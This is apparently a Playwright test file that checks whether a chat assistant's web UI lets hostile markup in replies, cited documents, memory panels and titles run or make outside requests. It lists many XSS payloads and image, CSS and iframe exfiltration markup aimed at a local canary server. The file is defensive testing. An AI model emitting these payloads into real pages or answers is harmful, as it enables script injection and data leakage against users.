"""Headless Chromium against hostile text: nothing of it runs, nothing of it makes a request."""

from __future__ import annotations

import asyncio
import contextlib
from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager

import pytest
from playwright.async_api import Error as PlaywrightError
from playwright.async_api import Page

from assistant.memory.view import MemoryItem, MemoryView
from assistant.testing.assistants import Reply, ScriptedAssistant, cite, save_documents
from assistant.testing.serving import serve_chat
from assistant.values import Document, Record, Verdict
from tests.servers.browser import open_browser

pytestmark = [pytest.mark.browser, pytest.mark.slow]

LIVE = "window.__ran = (window.__ran || 0) + 1"
HTML = [
    f"<script>{LIVE}</script>",
    f"<img src=x onerror='{LIVE}'>",
    f"<svg onload='{LIVE}'></svg>",
    f"<iframe srcdoc='<script>parent.{LIVE}</script>'></iframe>",
    f"<details open ontoggle='{LIVE}'>x</details>",
    f"<video><source onerror='{LIVE}'></video>",
    f"<body onload='{LIVE}'>",
    f"<input autofocus onfocus='{LIVE}'>",
    f"<marquee onstart='{LIVE}'>x</marquee>",
    f"<object data='javascript:{LIVE}'></object>",
    f"<embed src='javascript:{LIVE}'>",
    f"<base href='javascript:{LIVE}//'>",
    f"<math><mtext><style><img src=x onerror='{LIVE}'></style></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={LIVE}>'>",
    f"<form><button formaction='javascript:{LIVE}'>x</button></form>",
    f"<a href='javascript:{LIVE}'>x</a>",
    f"<style>@import 'javascript:{LIVE}';</style>",
    f"<link rel=stylesheet href='javascript:{LIVE}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{LIVE}'>",
    f"<template><script>{LIVE}</script></template>",
]
MARKDOWN = [
    f"[x](javascript:{LIVE})",
    f"[x](<javascript:{LIVE}>)",
    f"[x](JaVaScRiPt:{LIVE})",
    f"[x](java%0Ascript:{LIVE})",
    f"[x](&#106;avascript:{LIVE})",
    f"[x](data:text/html,<script>{LIVE}</script>)",
    f"[x](vbscript:{LIVE})",
    f"![x](javascript:{LIVE})",
    f"![x](data:image/svg+xml,<svg onload='{LIVE}'/>)",
    f"[x][r]\n\n[r]: javascript:{LIVE}",
    f"<javascript:{LIVE}>",
    f":::info{{onclick='{LIVE}'}}\nx\n:::",
    f"```html\n<script>{LIVE}</script>\n```",
    f"`<img src=x onerror='{LIVE}'>`",
    f"| a |\n| --- |\n| <img src=x onerror='{LIVE}'> |",
    f"$$\\href{{javascript:{LIVE}}}{{x}}$$",
    f"{{{{constructor.constructor('{LIVE}')()}}}}",
    f"${{{LIVE}}}",
]
PAYLOADS = HTML + MARKDOWN


@asynccontextmanager
async def canary() -> AsyncIterator[tuple[str, list[str]]]:
    """An HTTP sink on loopback that remembers the first line of every request."""
    heard: list[str] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        heard.append((await reader.readline()).decode(errors="replace"))
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    port = server.sockets[0].getsockname()[1]
    try:
        yield f"http://127.0.0.1:{port}", heard
    finally:
        server.close()
        await server.wait_closed()


@asynccontextmanager
async def browser_page(address: str) -> AsyncIterator[Page]:
    async with open_browser() as browser:
        page = await browser.new_page()
        await page.goto(address)
        await page.wait_for_selector("[id^='command-']")  # comes over the socket: the chat is ready
        yield page


async def ask(page: Page, text: str) -> None:
    await page.click("#chat-input")
    await page.evaluate("text => document.execCommand('insertText', false, text)", text)
    await page.keyboard.press("Enter")


def exfiltrations(sink: str) -> str:
    return "\n\n".join(
        [
            f"![inline]({sink}/inline?secret)",
            f"![ref][r]\n\n[r]: {sink}/ref?secret",
            f"<img src='{sink}/html?secret'>",
            f"<svg><image href='{sink}/svg?secret'/></svg>",
            f"<{sink}/autolink?secret>",
            f"![data](data:text/html;base64,PHNjcmlwdD5mZXRjaCgn)![x](//{sink.removeprefix('http://')}/protocol-relative)",
            f"![video]({sink}/movie.mp4)",
            f"<link rel=prefetch href='{sink}/prefetch'>",
            f"<style>@import '{sink}/css';body{{background:url({sink}/bg)}}</style>",
            f"<iframe src='{sink}/frame'></iframe><object data='{sink}/object'></object>",
            f"<audio src='{sink}/audio' autoplay></audio><script src='{sink}/script'></script>",
            f"[{sink}/bare]({sink}/bare) {sink}/text",
        ]
    )


async def test_an_answer_or_document_cannot_make_the_browser_talk_to_anyone() -> None:
    async with canary() as (sink, heard):
        hostile = exfiltrations(sink)
        document = Document(
            "hostile.md", hostile[:300], f"Quoted words.\n\n{hostile}", frozenset({"public"}), "1", "demo"
        )
        reply = Reply(f"{hostile}\n\nQuoted words. [1]", citations=(cite(document, "Quoted words."),))
        scripted = ScriptedAssistant(replies={"question": reply})
        await save_documents(scripted.stores, [document])
        async with serve_chat(scripted) as address, browser_page(address) as page:
            foreign: list[str] = []
            page.on("request", lambda request: foreign.append(request.url))
            await ask(page, f"question {hostile}")
            await page.locator(".assistant-sources button").dispatch_event("click")
            await page.wait_for_selector(".assistant-passage")
            await page.reload()
            await page.wait_for_selector(".assistant-sources")
            await page.goto(f"{address}/documents/hostile.md?start=0&end=99999")
            await page.wait_for_load_state("networkidle")
        assert heard == []
        left = [
            url for url in foreign if not url.startswith((address, address.replace("http", "ws"), "data:", "blob:"))
        ]
        assert all(url.startswith(sink) for url in left), left  # asked for, and refused by the policy before it left


async def test_stored_scripts_run_nowhere() -> None:
    """Every payload as question, answer, source title, section, choice, starter and document: none executes."""
    body = "\n\n".join(PAYLOADS)
    title = " ".join(HTML[:6])
    document = Document(
        "hostile.md", title, f"Quoted words.\n\n{body}", frozenset({"public"}), "1", "demo", updated=title
    )
    citation = cite(document, "Quoted words.", section=" ".join(HTML[6:12]))
    verdict = Verdict("clarify", "r", title, choices=tuple(PAYLOADS[:5]))
    scripted = ScriptedAssistant(
        replies={"question": Reply(f"{body}\n\nQuoted words. [1]", citations=(citation,), verdict=verdict)}
    )
    await save_documents(scripted.stores, [document])
    ran = 0
    async with serve_chat(scripted) as address, browser_page(address) as page:
        await ask(page, f"question {body}"[:7_900])
        await page.wait_for_selector(".assistant-choices")
        await page.locator(".assistant-sources button").dispatch_event("click")
        await page.wait_for_selector(".assistant-passage")
        for link in await page.locator(".ai-message a:not([href^='/documents/'])").all():
            await link.click(modifiers=["Alt"], no_wait_after=True, timeout=2_000)
        ran += await page.evaluate("window.__ran || 0")
        await page.goto(page.url)
        await page.wait_for_selector(".assistant-sources")
        ran += await page.evaluate("window.__ran || 0")
        await page.goto(f"{address}/documents/hostile.md?start=0&end=99999")
        for link in await page.locator("article a").all():
            await link.click(modifiers=["Alt"], no_wait_after=True, timeout=2_000)
        ran += await page.evaluate("window.__ran || 0")
    assert ran == 0


def hostile_memory(texts: Sequence[str]) -> MemoryView:
    """Each text as a line and as a pin, as label, as id and as a web address that was pinned."""
    lines = [MemoryItem(f"l{n}", "line", "facts", "", text, "", (), ("hostile.md",)) for n, text in enumerate(texts)]
    pins = [MemoryItem(f"{n}{text}".replace("/", ""), "pin", "url", text, text, "user") for n, text in enumerate(texts)]
    return MemoryView((*lines, *pins), tokens=1, budget=2, sections={texts[0]: 1})


async def test_what_is_remembered_is_text_and_nothing_else() -> None:
    """Every payload as line, pin, label, id, section and document title: nothing runs, is asked for or is a link."""
    async with canary() as (sink, heard):
        texts = [*PAYLOADS, *exfiltrations(sink).split("\n\n"), f"javascript:{LIVE}", f"{sink}/plain"]

        def remembers(_: Sequence[Record]) -> MemoryView:
            return hostile_memory(texts)

        scripted = ScriptedAssistant(remembers=remembers)
        title = " ".join(HTML)
        await save_documents(
            scripted.stores, [Document("hostile.md", title, "x", frozenset({"public"}), "1", "demo", updated="")]
        )
        async with serve_chat(scripted) as address, browser_page(address) as page:
            asked: list[str] = []
            page.on("request", lambda request: asked.append(request.url))
            await ask(page, "question")
            await page.click("#memory-gauge button")
            await page.wait_for_selector("#memory-panel li")
            for summary in await page.locator("#memory-panel summary").all():
                await summary.click()
            shown = await page.locator("#memory-panel .memory-text").all_text_contents()
            targets = (
                "[...document.querySelectorAll('#memory-panel a, #memory-marker a')].map(a => a.getAttribute('href'))"
            )
            links = set(await page.evaluate(targets))
            await page.locator("#memory-panel .memory-forget").last.click()
            await page.wait_for_function(
                "n => document.querySelectorAll('#memory-panel li').length < n", arg=2 * len(texts)
            )
            ran = await page.evaluate("window.__ran || 0")
        assert ran == 0
        assert heard == []
        assert shown == [*texts, *texts]
        assert links == {"/documents/hostile.md"}
        assert all(url.startswith((address, address.replace("http", "ws"))) for url in asked)


async def test_the_detector_of_these_tests_detects() -> None:
    async with canary() as (sink, heard), serve_chat(ScriptedAssistant()) as address, browser_page(address) as page:
        async with page.expect_console_message(lambda m: "Content Security Policy" in m.text):
            await page.evaluate("sink => { new Image().src = sink + '/x' }", sink)
        assert heard == []
        await page.evaluate(LIVE)
        assert await page.evaluate("window.__ran") == 1
        with contextlib.suppress(PlaywrightError):  # the sink closes without an answer
            await page.goto(f"{sink}/y")
        assert heard
